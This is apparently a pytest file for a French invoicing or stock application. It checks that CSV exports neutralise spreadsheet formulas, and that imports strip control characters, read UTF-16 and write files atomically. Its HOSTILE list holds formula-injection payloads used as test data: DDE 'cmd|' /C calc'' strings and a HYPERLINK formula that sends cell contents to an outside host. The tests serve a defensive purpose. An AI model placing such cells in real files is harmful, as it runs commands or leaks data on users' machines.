"""Exports never carry a live formula; every file is written atomically and only where
asked; imports read UTF-16 and keep NUL and control characters out (issue 11)."""

from __future__ import annotations

import csv
import io
import os

import pytest

from extradesk.core.errors import StorageError
from extradesk.core.text import clean
from extradesk.i18n.messages import error_text
from extradesk.reports.csv_out import safe_cell
from extradesk.services import files
from extradesk.services.articles import csv_io
from extradesk.services.articles import edit as articles
from extradesk.services.articles.dto import ArticleInput

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1;\"clic\")", "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=2+2", "\r=2+2"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12,50", "+3", "-1 234,56 €", "12,5 %", "Poêle", "", "-"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == (value if value != "-" else "'-")


def _exported(ctx, tmp_path) -> list[list[str]]:
    target = tmp_path / "articles.csv"
    csv_io.export_articles(ctx, target)
    content = target.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))


def test_articles_export_neutralises_formulas_in_every_text_column(ctx, tmp_path):
    for number, value in enumerate(HOSTILE[:4]):
        articles.create_article(ctx, ArticleInput(code=f"A{number}", label=value,
                                                  description=value, sale_price="10"))
    rows = _exported(ctx, tmp_path)
    labels = sorted(r[1] for r in rows[1:])
    assert labels == sorted("'" + v for v in HOSTILE[:4])
    assert all(r[2].startswith("'") for r in rows[1:])


def test_a_tab_stripped_on_import_does_not_become_a_live_formula(ctx, tmp_path):
    source = tmp_path / "import.csv"
    source.write_text("code;désignation;prix de vente HT\r\nT1;\t=2+2;10\r\n",
                      encoding="utf-8-sig")
    report = csv_io.import_articles(ctx, source)
    assert report.created == 1, report.problems
    rows = _exported(ctx, tmp_path)
    assert rows[1][1] == "'=2+2"


def test_nul_and_control_characters_never_reach_the_database(ctx, tmp_path):
    source = tmp_path / "import.csv"
    source.write_bytes("code;désignation\r\nN1;Poê\x00le\x07 granulés\x1b\r\n".encode())
    assert csv_io.import_articles(ctx, source).created == 1
    assert articles.find_by_code(ctx, "N1").label == "Poêle granulés"


def test_utf16_files_from_excel_are_read(ctx, tmp_path):
    source = tmp_path / "unicode.txt"
    source.write_bytes("code\tdésignation\tprix de vente HT\r\nU1\tPoêle à bûches\t1200\r\n"
                       .encode("utf-16"))
    report = csv_io.import_articles(ctx, source)
    assert report.created == 1, report.problems
    assert articles.find_by_code(ctx, "U1").label == "Poêle à bûches"


def test_a_huge_field_is_refused_in_french(ctx, tmp_path):
    source = tmp_path / "enorme.csv"
    source.write_text('code;désignation\r\nX;"' + "a" * 200_000 + '"\r\n', encoding="utf-8")
    with pytest.raises(StorageError) as caught:
        csv_io.import_articles(ctx, source)
    assert "dépasse 128 Ko" in error_text(caught.value)


def test_a_failed_write_keeps_the_previous_file_and_leaves_no_temporary(tmp_path):
    target = tmp_path / "export.csv"
    target.write_text("bon export")
    with pytest.raises(StorageError) as caught, files.atomic_open(target, "w") as out:
        out.write("début")
        raise OSError(28, "No space left on device")
    assert "le disque est plein" in error_text(caught.value)
    assert "écrire" in error_text(caught.value)
    assert target.read_text() == "bon export"
    assert os.listdir(tmp_path) == ["export.csv"]


def test_a_missing_folder_or_a_directory_is_said_in_french(tmp_path):
    with pytest.raises(StorageError) as caught:
        files.write_atomic(tmp_path / "absent" / "f.pdf", b"%PDF")
    assert "n'existe pas" in error_text(caught.value)
    with pytest.raises(StorageError) as caught:
        files.write_atomic(tmp_path, b"%PDF")
    assert "est un dossier" in error_text(caught.value)


def test_a_symbolic_link_is_followed_not_replaced(tmp_path):
    real = tmp_path / "vrai.pdf"
    real.write_bytes(b"ancien")
    link = tmp_path / "lien.pdf"
    link.symlink_to(real)
    files.write_atomic(link, b"nouveau")
    assert link.is_symlink() and real.read_bytes() == b"nouveau"


def test_clean_keeps_line_breaks_only_where_asked():
    assert clean("a\tb\nc\x00d") == "a b cd"
    assert clean("a\tb\nc\x00d", multiline=True) == "a\tb\ncd"
